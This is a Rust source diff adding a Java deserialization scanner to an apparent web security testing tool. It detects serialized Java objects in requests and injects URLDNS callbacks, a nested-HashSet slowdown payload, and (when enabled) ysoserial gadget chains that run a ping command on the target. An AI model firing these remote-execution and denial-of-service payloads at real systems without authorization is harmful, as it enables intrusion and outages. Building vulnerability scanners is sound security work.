@@ -0,0 +1,606 @@
+use crate::core::config::{AppConfig, InsertionPointType, ScannerConfig};
+use crate::handler::scan::engine::{Confidence, ScanResult};
+use crate::handler::scan::oob::OobListener;
+use crate::handler::scan::proxy::{HttpRequest, HttpResponse};
+use crate::handler::scan::scanners::Scanner;
+use crate::handler::scan::utils::{http, insertion};
+use anyhow::Result;
+use async_trait::async_trait;
+use base64::{engine::general_purpose::STANDARD, Engine};
+use flate2::read::GzDecoder;
+use flate2::write::GzEncoder;
+use flate2::Compression;
+use log::{debug, info, warn};
+use std::collections::{HashMap, HashSet};
+use std::io::{Read, Write};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+/// Java序列化流魔数和版本
+const STREAM_MAGIC: [u8; 4] = [0xAC, 0xED, 0x00, 0x05];
+
+/// Java序列化对象的Content-Type
+const SERIALIZED_CONTENT_TYPE: &str = "application/x-java-serialized-object";
+
+/// 用于识别可利用链的gadget，执行命令回连DNS，仅在开启exec_gadgets时发送
+const GADGETS: &[(&str, fn(&str) -> Vec<u8>)] = &[
+    ("CommonsCollections5", ysoserial_rs::get_commons_collections5),
+    ("CommonsCollections6", ysoserial_rs::get_commons_collections6),
+    ("CommonsCollectionsK1", ysoserial_rs::get_commons_collections_k1),
+    ("CommonsBeanutils1", ysoserial_rs::get_commons_beanutils1),
+    ("Spring1", ysoserial_rs::get_spring1),
+    ("Groovy1", ysoserial_rs::get_groovy1),
+    ("JDK7u21", ysoserial_rs::get_jdk7u21),
+];
+
+/// 时间型检测的对照深度和延迟深度
+///
+/// 嵌套HashSet反序列化时hashCode计算量随深度指数增长，只依赖JDK自身类
+const CONTROL_DEPTH: usize = 8;
+const DELAY_DEPTH: usize = 26;
+
+/// 延迟载荷比对照载荷至少慢多少才认为存在反序列化
+const MIN_DELAY: Duration = Duration::from_secs(2);
+
+/// 序列化数据的编码方式
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum Encoding {
+    /// 原始二进制
+    Raw,
+    /// Base64（rO0AB开头）
+    Base64,
+    /// 十六进制（aced0005开头）
+    Hex,
+    /// Gzip压缩后Base64（H4sI开头，常见于JSF ViewState）
+    GzipBase64,
+}
+
+/// 序列化数据所在位置
+#[derive(Debug, Clone, PartialEq)]
+enum Location {
+    /// 整个请求体
+    Body,
+    /// 查询、表单或JSON参数
+    Param(String),
+    /// Cookie
+    Cookie(String),
+    /// 请求头
+    Header(String),
+}
+
+impl Location {
+    fn describe(&self) -> String {
+        match self {
+            Location::Body => "请求体".to_string(),
+            Location::Param(name) => format!("参数 {}", name),
+            Location::Cookie(name) => format!("Cookie {}", name),
+            Location::Header(name) => format!("请求头 {}", name),
+        }
+    }
+}
+
+/// 发现的序列化数据
+#[derive(Debug, Clone, PartialEq)]
+struct SerializedPoint {
+    location: Location,
+    encoding: Encoding,
+    /// 原值是否经过URL编码
+    url_encoded: bool,
+}
+
+/// Java反序列化扫描器
+#[derive(Clone)]
+pub struct JavaDeserializationScanner {
+    /// 配置
+    config: Arc<AppConfig>,
+    /// HTTP客户端
+    http_client: reqwest::Client,
+    /// 本次扫描已测试的位置，键为方法+路径+位置
+    tested: Arc<Mutex<HashSet<String>>>,
+}
+
+impl JavaDeserializationScanner {
+    /// 创建新的Java反序列化扫描器
+    pub fn new(config: Arc<AppConfig>) -> Self {
+        // 时间型载荷需要等待服务端完成计算
+        let timeout = Duration::from_millis(config.scanner.timeout_ms.max(30_000));
+        let http_client = http::client(timeout, false);
+
+        Self {
+            config,
+            http_client,
+            tested: Arc::new(Mutex::new(HashSet::new())),
+        }
+    }
+
+    /// 判断字符串值是否为编码后的Java序列化数据
+    fn classify(value: &str) -> Option<Encoding> {
+        let value = value.trim();
+        if value.starts_with("rO0AB") {
+            return STANDARD
+                .decode(value)
+                .ok()
+                .filter(|b| b.starts_with(&STREAM_MAGIC))
+                .map(|_| Encoding::Base64);
+        }
+        if value.get(..8).is_some_and(|head| head.eq_ignore_ascii_case("aced0005")) {
+            return hex::decode(value).ok().map(|_| Encoding::Hex);
+        }
+        if value.starts_with("H4sI") {
+            let compressed = STANDARD.decode(value).ok()?;
+            let mut decoder = GzDecoder::new(compressed.as_slice());
+            let mut head = [0u8; 4];
+            decoder.read_exact(&mut head).ok()?;
+            return (head == STREAM_MAGIC).then_some(Encoding::GzipBase64);
+        }
+        None
+    }
+
+    /// 判断值是否为序列化数据，兼容URL编码后的值
+    fn classify_value(value: &str) -> Option<(Encoding, bool)> {
+        if let Some(encoding) = Self::classify(value) {
+            return Some((encoding, false));
+        }
+        if value.contains('%') {
+            let decoded = urlencoding::decode(value).ok()?;
+            return Self::classify(&decoded).map(|e| (e, true));
+        }
+        None
+    }
+
+    fn header<'a>(headers: &'a HashMap<String, String>, name: &str) -> Option<&'a String> {
+        headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v)
+    }
+
+    /// 查找请求中的序列化数据
+    fn detect_points(request: &HttpRequest, scanner: &ScannerConfig) -> Vec<SerializedPoint> {
+        let mut points = Vec::new();
+        let mut push = |location: Location, (encoding, url_encoded): (Encoding, bool)| {
+            points.push(SerializedPoint { location, encoding, url_encoded });
+        };
+
+        let content_type = Self::header(&request.headers, "content-type").map(|v| v.to_lowercase()).unwrap_or_default();
+        if scanner.allows(InsertionPointType::Body)
+            && (request.body.starts_with(&STREAM_MAGIC) || content_type.contains(SERIALIZED_CONTENT_TYPE))
+        {
+            push(Location::Body, (Encoding::Raw, false));
+        }
+
+        for (name, value) in insertion::params(request, scanner) {
+            if let Some(found) = Self::classify_value(&value) {
+                push(Location::Param(name), found);
+            }
+        }
+
+        for (name, value) in &request.headers {
+            if name.eq_ignore_ascii_case("cookie") {
+                if !scanner.allows(InsertionPointType::Cookie) {
+                    continue;
+                }
+                for pair in value.split(';') {
+                    if let Some((k, v)) = pair.trim().split_once('=') {
+                        if let Some(found) = Self::classify_value(v) {
+                            push(Location::Cookie(k.to_string()), found);
+                        }
+                    }
+                }
+            } else if scanner.allows(InsertionPointType::Header) {
+                if let Some(found) = Self::classify_value(value) {
+                    push(Location::Header(name.clone()), found);
+                }
+            }
+        }
+
+        points
+    }
+
+    /// 响应中是否出现序列化数据，仅用于被动提示
+    fn response_is_serialized(response: &HttpResponse) -> bool {
+        response.body.starts_with(&STREAM_MAGIC)
+            || Self::header(&response.headers, "content-type")
+                .is_some_and(|ct| ct.to_lowercase().contains(SERIALIZED_CONTENT_TYPE))
+    }
+
+    /// 按原编码方式编码载荷
+    fn encode(encoding: Encoding, payload: &[u8]) -> Vec<u8> {
+        match encoding {
+            Encoding::Raw => payload.to_vec(),
+            Encoding::Base64 => STANDARD.encode(payload).into_bytes(),
+            Encoding::Hex => hex::encode(payload).into_bytes(),
+            Encoding::GzipBase64 => {
+                let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
+                let compressed = encoder
+                    .write_all(payload)
+                    .and_then(|_| encoder.finish())
+                    .unwrap_or_default();
+                STANDARD.encode(compressed).into_bytes()
+            }
+        }
+    }
+
+    /// 在序列化数据所在位置替换为载荷
+    fn inject(request: &HttpRequest, point: &SerializedPoint, payload: &[u8]) -> HttpRequest {
+        let encoded = Self::encode(point.encoding, payload);
+        if point.location == Location::Body {
+            let mut test_request = request.clone();
+            test_request.body = encoded;
+            return test_request;
+        }
+
+        let text = String::from_utf8_lossy(&encoded).to_string();
+        match &point.location {
+            Location::Param(name) => insertion::with_param(request, name, &text),
+            Location::Cookie(name) => {
+                let value = if point.url_encoded { urlencoding::encode(&text).to_string() } else { text };
+                let mut test_request = request.clone();
+                for (k, v) in test_request.headers.iter_mut() {
+                    if k.eq_ignore_ascii_case("cookie") {
+                        *v = v
+                            .split(';')
+                            .map(|pair| match pair.trim().split_once('=') {
+                                Some((cookie, _)) if cookie == name.as_str() => format!("{}={}", cookie, value),
+                                _ => pair.trim().to_string(),
+                            })
+                            .collect::<Vec<_>>()
+                            .join("; ");
+                    }
+                }
+                test_request
+            }
+            Location::Header(name) => {
+                let value = if point.url_encoded { urlencoding::encode(&text).to_string() } else { text };
+                let mut test_request = request.clone();
+                test_request.headers.insert(name.clone(), value);
+                test_request
+            }
+            Location::Body => unreachable!(),
+        }
+    }
+
+    /// 生成嵌套HashSet载荷（SerialDOS），depth越大反序列化越慢
+    ///
+    /// 第i层的a、b两个集合都包含第i+1层的a、b，a额外包含一个字符串使两者不相等，
+    /// 放入HashMap时的hashCode计算会递归遍历所有路径
+    fn nested_set_payload(depth: usize) -> Vec<u8> {
+        struct Writer {
+            out: Vec<u8>,
+            next_handle: u32,
+            class_handle: Option<u32>,
+            string_handle: Option<u32>,
+        }
+
+        impl Writer {
+            fn assign(&mut self) -> u32 {
+                let handle = self.next_handle;
+                self.next_handle += 1;
+                handle
+            }
+
+            fn reference(&mut self, handle: u32) {
+                self.out.push(0x71);
+                self.out.extend_from_slice(&handle.to_be_bytes());
+            }
+
+            /// 写入HashSet对象头和writeObject中的容量、负载因子、元素个数
+            fn begin_set(&mut self, size: i32) -> u32 {
+                self.out.push(0x73);
+                match self.class_handle {
+                    Some(handle) => self.reference(handle),
+                    None => {
+                        let name = b"java.util.HashSet";
+                        self.out.push(0x72);
+                        self.out.extend_from_slice(&(name.len() as u16).to_be_bytes());
+                        self.out.extend_from_slice(name);
+                        self.out.extend_from_slice(&(-5024744406713321676i64).to_be_bytes());
+                        // SC_SERIALIZABLE | SC_WRITE_METHOD，无字段，无父类
+                        self.out.extend_from_slice(&[0x03, 0x00, 0x00, 0x78, 0x70]);
+                        self.class_handle = Some(self.assign());
+                    }
+                }
+                let handle = self.assign();
+                self.out.extend_from_slice(&[0x77, 12]);
+                self.out.extend_from_slice(&16i32.to_be_bytes());
+                self.out.extend_from_slice(&0.75f32.to_be_bytes());
+                self.out.extend_from_slice(&size.to_be_bytes());
+                handle
+            }
+
+            fn end_set(&mut self) {
+                self.out.push(0x78);
+            }
+
+            fn marker(&mut self) {
+                match self.string_handle {
+                    Some(handle) => self.reference(handle),
+                    None => {
+                        self.out.extend_from_slice(&[0x74, 0x00, 0x02]);
+                        self.out.extend_from_slice(b"rs");
+                        self.string_handle = Some(self.assign());
+                    }
+                }
+            }
+
+            /// 写入第level层的a、b集合，返回两者的句柄
+            fn pair(&mut self, level: usize, depth: usize) -> (u32, u32) {
+                let last = level == depth;
+
+                let a = self.begin_set(if last { 1 } else { 3 });
+                self.marker();
+                let children = if last { None } else { Some(self.pair(level + 1, depth)) };
+                self.end_set();
+
+                let b = self.begin_set(if last { 0 } else { 2 });
+                if let Some((child_a, child_b)) = children {
+                    self.reference(child_a);
+                    self.reference(child_b);
+                }
+                self.end_set();
+                (a, b)
+            }
+        }
+
+        let mut writer = Writer {
+            out: STREAM_MAGIC.to_vec(),
+            next_handle: 0x7e0000,
+            class_handle: None,
+            string_handle: None,
+        };
+        writer.begin_set(2);
+        writer.pair(1, depth.max(1));
+        writer.end_set();
+        writer.out
+    }
+
+    /// 发送测试请求
+    async fn send_request(&self, request: &HttpRequest) -> Result<HttpResponse> {
+        Ok(self.send_request_timed(request).await?.0)
+    }
+
+    /// 发送测试请求，同时返回不含限速排队时间的耗时
+    async fn send_request_timed(&self, request: &HttpRequest) -> Result<(HttpResponse, Duration)> {
+        http::send_timed(http::build_request(&self.http_client, request)?).await
+    }
+
+    /// URLDNS确认反序列化，开启exec_gadgets时再用命令执行gadget识别可利用链
+    ///
+    /// 返回(证据, 可利用的gadget, URLDNS测试请求)
+    async fn confirm_by_dns(&self, request: &HttpRequest, point: &SerializedPoint) -> Option<(String, Vec<String>, HttpRequest)> {
+        let listener = match OobListener::for_scan(&self.config.oob).await {
+            Ok(listener) => listener,
+            Err(e) => {
+                warn!("OOB监听不可用，跳过URLDNS检测: {}", e);
+                return None;
+            }
+        };
+
+        let token = listener.new_token("Java Deserialization Scanner");
+        let payload = ysoserial_rs::get_url_dns(&format!("http://{}/", token.dns_host));
+        let test_request = Self::inject(request, point, &payload);
+        if let Err(e) = self.send_request(&test_request).await {
+            debug!("URLDNS载荷发送失败: {}", e);
+        }
+        let interactions = listener.wait_for(&token.token, listener.wait_duration()).await;
+        let first = interactions.first()?;
+        let evidence = format!("URLDNS载荷触发了 {} 回连，来源 {}: {}", first.protocol, first.remote_addr, first.summary);
+
+        // 命令执行gadget会在目标上执行命令，需要显式开启
+        if !self.config.rules.vulnerabilities.java_deserialization.exec_gadgets {
+            return Some((evidence, Vec::new(), test_request));
+        }
+
+        let mut pending = Vec::new();
+        for (gadget, build) in GADGETS {
+            let oob = listener.new_token("Java Deserialization Scanner");
+            let payload = build(&format!("ping -c 1 {}", oob.dns_host));
+            if let Err(e) = self.send_request(&Self::inject(request, point, &payload)).await {
+                debug!("gadget {} 载荷发送失败: {}", gadget, e);
+            }
+            pending.push((gadget, oob));
+        }
+
+        let deadline = tokio::time::Instant::now() + listener.wait_duration();
+        let mut gadgets = Vec::new();
+        for (gadget, oob) in pending {
+            let remaining = deadline.saturating_duration_since(tokio::time::Instant::now());
+            if !listener.wait_for(&oob.token, remaining).await.is_empty() {
+                gadgets.push(gadget.to_string());
+            }
+        }
+        Some((evidence, gadgets, test_request))
+    }
+
+    async fn timed(&self, request: &HttpRequest) -> Option<Duration> {
+        self.send_request_timed(request).await.ok().map(|(_, elapsed)| elapsed)
+    }
+
+    /// 时间差异确认：延迟载荷比对照载荷明显更慢，并重放一次
+    ///
+    /// 返回(证据, 延迟载荷请求)
+    async fn confirm_by_timing(&self, request: &HttpRequest, point: &SerializedPoint) -> Option<(String, HttpRequest)> {
+        let control = Self::inject(request, point, &Self::nested_set_payload(CONTROL_DEPTH));
+        let delayed = Self::inject(request, point, &Self::nested_set_payload(DELAY_DEPTH));
+
+        let baseline = self.timed(&control).await?;
+        let first = self.timed(&delayed).await?;
+        if first < baseline + MIN_DELAY {
+            return None;
+        }
+        let baseline = baseline.max(self.timed(&control).await?);
+        let second = self.timed(&delayed).await?;
+        (second >= baseline + MIN_DELAY).then(|| {
+            let evidence = format!(
+                "嵌套HashSet载荷（深度{}）耗时 {:?}/{:?}，对照载荷（深度{}）耗时 {:?}",
+                DELAY_DEPTH, first, second, CONTROL_DEPTH, baseline
+            );
+            (evidence, delayed)
+        })
+    }
+
+    /// 构造扫描结果，exchange为证明漏洞的(测试请求, 响应)
+    #[allow(clippy::too_many_arguments)]
+    fn build_result(
+        request: &HttpRequest,
+        point: &SerializedPoint,
+        risk_level: &str,
+        confidence: Confidence,
+        name: &str,
+        evidence: String,
+        details: String,
+        exchange: (&HttpRequest, Option<&HttpResponse>),
+    ) -> ScanResult {
+        ScanResult {
+            vulnerability_type: "Java Deserialization".to_string(),
+            name: name.to_string(),
+            description: "请求中传输Java序列化对象，服务端对其反序列化时，攻击者可以构造gadget链执行任意代码".to_string(),
+            risk_level: risk_level.to_string(),
+            url: request.url.to_string(),
+            method: request.method.to_string(),
+            parameter: Some(point.location.describe()),
+            value: Some(format!("{:?}", point.encoding)),
+            evidence: Some(evidence),
+            remediation: Some("避免反序列化不可信数据，改用JSON等数据格式；必须使用时通过ObjectInputFilter设置类白名单，并升级commons-collections等存在gadget的依赖".to_string()),
+            details: Some(details),
+            timestamp: chrono::Utc::now(),
+            request_details: None,
+            response_details: None,
+            confidence,
+            payload_ranges: Vec::new(),
+            evidence_ranges: Vec::new(),
+        }
+        // 序列化载荷为二进制数据，不标注payload位置
+        .with_exchange(exchange.0, exchange.1, None, None)
+    }
+}
+
+#[async_trait]
+impl Scanner for JavaDeserializationScanner {
+    async fn name(&self) -> String {
+        "Java Deserialization Scanner".to_string()
+    }
+
+    async fn scan(&self, request: &HttpRequest, response: &HttpResponse) -> Vec<ScanResult> {
+        let mut results = Vec::new();
+        let path = request.url.split('?').next().unwrap_or_default().to_string();
+
+        for point in Self::detect_points(request, &self.config.scanner) {
+            let key = format!("{} {} {}", request.method, path, point.location.describe());
+            if !self.tested.lock().unwrap().insert(key) {
+                continue;
+            }
+            info!("发现Java序列化数据: {} {}", request.url, point.location.describe());
+
+            if let Some((evidence, gadgets, test_request)) = self.confirm_by_dns(request, &point).await {
+                let (risk_level, details) = if gadgets.is_empty() {
+                    ("High", "服务端会反序列化该位置的数据，未确认可直接利用的gadget链，可开启exec_gadgets或尝试其他gadget".to_string())
+                } else {
+                    ("Critical", format!("可利用的gadget链: {}", gadgets.join(", ")))
+                };
+                results.push(Self::build_result(
+                    request,
+                    &point,
+                    risk_level,
+                    Confidence::Certain,
+                    "Java反序列化漏洞",
+                    evidence,
+                    details,
+                    (&test_request, None),
+                ));
+                continue;
+            }
+
+            if let Some((evidence, test_request)) = self.confirm_by_timing(request, &point).await {
+                results.push(Self::build_result(
+                    request,
+                    &point,
+                    "High",
+                    Confidence::Firm,
+                    "Java反序列化漏洞",
+                    evidence,
+                    "服务端会反序列化该位置的数据（时间差异确认），可进一步尝试gadget链".to_string(),
+                    (&test_request, None),
+                ));
+                continue;
+            }
+
+            results.push(Self::build_result(
+                request,
+                &point,
+                "Low",
+                Confidence::Tentative,
+                "Java序列化数据传输",
+                format!("{} 中包含{:?}编码的Java序列化对象", point.location.describe(), point.encoding),
+                "未能确认服务端会反序列化该数据，建议人工复核".to_string(),
+                (request, None),
+            ));
+        }
+
+        if Self::response_is_serialized(response) && self.tested.lock().unwrap().insert(format!("response {}", path)) {
+            let point = SerializedPoint {
+                location: Location::Body,
+                encoding: Encoding::Raw,
+                url_encoded: false,
+            };
+            let mut result = Self::build_result(
+                request,
+                &point,
+                "Info",
+                Confidence::Certain,
+                "响应包含Java序列化数据",
+                "响应体为Java序列化对象，客户端与服务端可能使用Java序列化通信".to_string(),
+                "建议检查该接口的请求是否同样接受序列化对象".to_string(),
+                (request, Some(response)),
+            );
+            result.parameter = Some("响应体".to_string());
+            results.push(result);
+        }
+
+        results
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_classify() {
+        let serialized = [STREAM_MAGIC.to_vec(), b"sr\x00\x11java.util.HashMap".to_vec()].concat();
+        let b64 = STANDARD.encode(&serialized);
+        assert!(b64.starts_with("rO0AB"));
+        assert_eq!(JavaDeserializationScanner::classify(&b64), Some(Encoding::Base64));
+        assert_eq!(JavaDeserializationScanner::classify(&hex::encode(&serialized)), Some(Encoding::Hex));
+
+        let gzip = JavaDeserializationScanner::encode(Encoding::GzipBase64, &serialized);
+        assert_eq!(JavaDeserializationScanner::classify(&String::from_utf8(gzip).unwrap()), Some(Encoding::GzipBase64));
+
+        assert_eq!(JavaDeserializationScanner::classify_value("rO0ABQ%3D%3D"), Some((Encoding::Base64, true)));
+        assert_eq!(JavaDeserializationScanner::classify("hello"), None);
+    }
+
+    #[test]
+    fn test_detect_and_inject_cookie() {
+        let serialized = [STREAM_MAGIC.to_vec(), vec![0x70]].concat();
+        let mut headers = HashMap::new();
+        headers.insert("Cookie".to_string(), format!("lang=en; state={}", STANDARD.encode(&serialized)));
+        let request = HttpRequest::new("http://example.com/app", "GET", headers, Vec::new(), Vec::new());
+
+        let points = JavaDeserializationScanner::detect_points(&request, &AppConfig::default().scanner);
+        assert_eq!(points.len(), 1);
+        assert_eq!(points[0].location, Location::Cookie("state".to_string()));
+
+        let injected = JavaDeserializationScanner::inject(&request, &points[0], &STREAM_MAGIC);
+        assert_eq!(injected.headers.get("Cookie").unwrap(), "lang=en; state=rO0ABQ==");
+    }
+
+    #[test]
+    fn test_nested_set_payload() {
+        let payload = JavaDeserializationScanner::nested_set_payload(2);
+        assert!(payload.starts_with(&STREAM_MAGIC));
+        // HashSet类描述只写一次，其余为引用
+        let name = b"java.util.HashSet";
+        assert_eq!(payload.windows(name.len()).filter(|w| w == name).count(), 1);
+        // 深度增加时载荷线性增长
+        let deeper = JavaDeserializationScanner::nested_set_payload(20);
+        assert!(deeper.len() < 20 * 64);
+    }
+}